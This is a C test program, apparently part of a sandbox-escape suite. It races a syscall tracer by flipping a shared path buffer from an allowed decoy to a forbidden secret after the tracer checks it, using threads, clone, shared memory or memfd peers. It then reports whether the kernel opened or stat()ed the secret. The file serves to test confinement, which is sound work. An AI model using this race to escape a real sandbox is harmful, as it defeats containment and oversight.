/* race_path: rewrite the path buffer after the tracer has read it (Watson 2007).
 *
 *   race_path MODE ALLOWED FORBIDDEN [ITERATIONS [SECONDS]]
 *
 * ALLOWED and FORBIDDEN are paths of the same length (the decoy and the secret).  The attacker
 * opens a buffer holding ALLOWED while a peer flips it to FORBIDDEN and back; if the kernel
 * ever opens what the tracer did not check, the fd is the secret (checked by fstat inode and
 * content, and named by /proc/self/fd readlink in the verdict).
 *
 * MODE: thread   a sibling thread flips the buffer
 *       clonevm  a clone(CLONE_VM) peer (a process, not a thread) flips it
 *       shm      a forked process flips it through a MAP_SHARED anonymous page
 *       memfd    a forked process flips it through its own mapping of a shared memfd
 *       thread_stat, shm_stat, memfd_stat
 *                the same peers, but the call is stat(): ESCAPED when the kernel stat()ed
 *                the secret (same inode) although the tracer checked the decoy -- its size,
 *                times and owner leak, which an fsread rule refuses as well
 * With ESC_OWN_FILTER=1 in the environment it first installs a filter of its own (race.h).
 * Class 2 (races between check and use).
 */
#include "race.h"

int main(int argc, char **argv) {
    if (argc < 4)
        usage("race_path MODE ALLOWED FORBIDDEN [ITERATIONS [SECONDS]]");
    const char *mode = argv[1], *a = argv[2], *b = argv[3];
    size_t len = strlen(a) + 1;
    if (len != strlen(b) + 1)
        usage("ALLOWED and FORBIDDEN must have the same length");
    struct budget budget;
    budget_args(&budget, argc, argv, 4);
    if (getenv("ESC_OWN_FILTER"))
        own_filter(argv);

    int stat_mode = strstr(mode, "_stat") != NULL;
    char peer_kind[16];
    snprintf(peer_kind, sizeof peer_kind, "%.*s", (int)strcspn(mode, "_"), mode);
    mode = peer_kind;
    char *page = shared_page(65536, !strcmp(mode, "memfd"));
    if (page == MAP_FAILED)
        skipped("shared page: %s", ename(errno));
    struct flip *f = (struct flip *)(page + 8192);
    volatile int *stop = (volatile int *)(page + 16384);
    f->buf = page;
    f->len = len;
    f->a = a;
    f->b = b;
    f->stop = stop;
    memcpy(page, a, len);

    pthread_t th;
    pid_t peer = -1;
    if (!strcmp(mode, "thread")) {
        pthread_create(&th, NULL, flip_thread, f);
    } else if (!strcmp(mode, "clonevm")) {
        char *stack = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        peer = clone(flip_clone_fn, stack + (1 << 20), CLONE_VM | SIGCHLD, f);
        if (peer < 0)
            blocked("clone(CLONE_VM): %s", ename(errno));
    } else if (!strcmp(mode, "shm") || !strcmp(mode, "memfd")) {
        peer = fork();
        if (peer == 0) {
            flip_loop(f);
            _exit(0);
        }
    } else {
        usage("MODE: thread clonevm shm memfd thread_stat shm_stat memfd_stat");
    }

    wait_for_peer(&f->flips);
    budget.start = now_s();
    struct race_tally t = {0};
    unsigned long long ino = env_ull("ESC_SECRET_INO"), dev = env_ull("ESC_SECRET_DEV");
    while (stat_mode && budget_left(&budget)) {
        struct stat st;
        if (stat(page, &st) < 0) {
            t.refused++;
            continue;
        }
        if (st.st_ino == ino && st.st_dev == dev) {
            if (!t.got++)
                snprintf(t.where, sizeof t.where, "stat() of inode %llu: the secret", ino);
        } else {
            t.other++;
        }
    }
    while (!stat_mode && budget_left(&budget))
        race_count_open(&t, open(page, O_RDONLY));
    *stop = 1;
    if (peer > 0)
        waitpid(peer, NULL, __WALL);
    else
        pthread_join(th, NULL);
    note("%ld tries: %ld secret, %ld other file, %ld refused; %ld flips", budget.done - 1, t.got,
         t.other, t.refused, f->flips);
    if (t.got && stat_mode)
        escaped("%ld times: %s", t.got, t.where);
    if (t.got)
        escaped("opened the secret %ld times (fd -> %s)", t.got, t.where);
    if (t.other == 0)
        blocked("never opened anything (%ld refused)", t.refused);
    blocked("%ld %s, none of them the secret", t.other, stat_mode ? "stat calls" : "opens");
}
